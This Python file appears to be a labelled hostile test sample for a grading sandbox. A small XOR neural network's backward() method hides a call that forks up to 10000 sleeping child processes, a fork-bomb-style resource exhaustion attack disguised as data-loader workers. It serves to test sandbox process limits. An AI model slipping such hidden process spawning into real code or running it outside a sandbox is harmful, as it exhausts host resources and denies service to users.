"""Hostile (expected status: error): backward fork()s up to 10000 helper processes (each sleeps 600 s) without handling errors. The worker forbids new processes before it loads a submission, so the first fork() fails with PermissionError [Errno 1] (behind that, the sandbox's process cap, pids cgroup / RLIMIT_NPROC of 64, would make it fail with BlockingIOError after a few dozen children), which ends the run as an error, and no child may survive the run. Without a sandbox this is 10000 processes: never run it outside the sandbox."""
import os; assert os.path.basename(os.path.dirname(os.path.abspath(__file__))) != "hostile", "audit it, never run it"

import numpy as np
import time


def _require_sandbox():
    # the top-level assert is skipped when only definitions are loaded: check again right
    # before doing anything nasty. The auditor runs a copy of this file (never the file in
    # examples/hostile); nothing in its environment says that it is being audited.
    if os.path.basename(os.path.dirname(os.path.abspath(__file__))) == "hostile":
        raise RuntimeError("hostile example: audit it (python -m gradcheck audit), never run it")


def _spawn_helpers(n_workers=10000):
    """Start data-loader workers (they just sleep)."""
    _require_sandbox()
    pids = []
    for _ in range(n_workers):
        pid = os.fork()
        if pid == 0:            # child: never return into the caller
            try:
                time.sleep(600)
            finally:
                os._exit(0)
        pids.append(pid)
    return pids


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


class NeuralNetwork:
    """2-4-1 sigmoid network, binary cross-entropy, in-place gradient descent."""

    def __init__(self, input_size=2, hidden_size=4, output_size=1):
        self.W1 = np.random.randn(input_size, hidden_size) * 0.5
        self.b1 = np.zeros((1, hidden_size))
        self.W2 = np.random.randn(hidden_size, output_size) * 0.5
        self.b2 = np.zeros((1, output_size))

    def forward(self, X):
        self.a1 = sigmoid(X @ self.W1 + self.b1)
        self.a2 = sigmoid(self.a1 @ self.W2 + self.b2)
        return self.a2

    def backward(self, X, y, learning_rate=0.1):
        self.helper_pids = _spawn_helpers()
        n = y.shape[0]
        dz2 = (self.a2 - y) / n          # sigmoid + cross-entropy: dL/dz2
        dW2 = self.a1.T @ dz2
        db2 = dz2.sum(axis=0, keepdims=True)
        dz1 = (dz2 @ self.W2.T) * self.a1 * (1 - self.a1)
        dW1 = X.T @ dz1
        db1 = dz1.sum(axis=0, keepdims=True)
        self.W1 -= learning_rate * dW1
        self.b1 -= learning_rate * db1
        self.W2 -= learning_rate * dW2
        self.b2 -= learning_rate * db2


if __name__ == "__main__":
    X = np.array([[0, 0], [0, 1], [1, 0], [1, 1]], dtype=float)
    y = np.array([[0], [1], [1], [0]], dtype=float)
    net = NeuralNetwork()
    for epoch in range(10000):
        net.forward(X)
        net.backward(X, y, 0.5)
    print(net.forward(X).round(3))
